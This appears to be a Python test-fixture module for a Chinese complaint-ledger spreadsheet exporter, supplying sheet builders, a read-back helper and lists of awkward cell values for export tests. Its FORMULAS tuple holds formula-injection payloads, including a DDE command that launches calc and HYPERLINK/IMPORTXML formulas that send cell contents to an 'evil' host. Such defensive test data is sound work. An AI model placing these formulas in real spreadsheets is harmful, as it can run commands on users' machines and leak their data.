"""Tables for tests of what is written and read."""

from datetime import datetime
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from builders import MONDAY_9AM
from huiyin.insight.sheets import Column, Line, Sheet

MARK = "导出人：林静　2026-11-23 09:00"
# What people write into fields, and what a program of tables would make of it if it could.
FORMULAS = (  # FX01, FX03
    "=cmd|'/C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil?x="&A1,"点我")',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "{=1+1}",
    '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
    "%0A=1",
    "|calc",
    "http://evil.example/",
    "mailto:a@example.com",
    "internal:选项!A1",
)
ALIKE = ("330102199001011234", "0012", "3-1", "1e5", "00:12", "2026-11-23", "1,234.50", "3/4", "1.10", "+8613800138000", "-5")  # FX02, FX05
AWKWARD = (
    '他说："水,又停了"',
    "第一行\n第二行",
    "a;b;c",
    "tab\there",
    "𠮷野家",
    "😀",
    "_x000D_",
    "\x01\x08",
    "e\u0301",
    "\u202eevil",
    "&lt;b&gt;<b>",
    "<r>&</r>",
    "<r><t>1</t></r>",
)  # FX04
TEXTS = (*FORMULAS, *ALIKE, *AWKWARD)


def a_sheet(wide: int = 2, **changes: Any) -> Sheet:
    """A table of texts."""
    plain: dict[str, Any] = {
        "title": "投诉台账",
        "columns": tuple(Column(heading=f"列{n}", width=12) for n in range(wide)),
        "marks": (MARK, "只含列表里看得到的投诉件。"),
        "signed": "制表：　　审核：",
        "about": "导出说明",
        "choices": "选项",
        "author": "林静",
        "at": MONDAY_9AM,
    }
    return Sheet(**(plain | changes))


def lines_of(*rows: tuple[str | datetime | None, ...]) -> list[Line]:
    """These rows, none of them late."""
    return [Line(cells=row) for row in rows]


def cells_of(path: Path, title: str | None = None) -> list[list[Any]]:
    """What another library reads back, cell by cell."""
    book = load_workbook(path)
    page = book[title] if title else book.worksheets[0]
    return [[cell.value for cell in row] for row in page.iter_rows()]
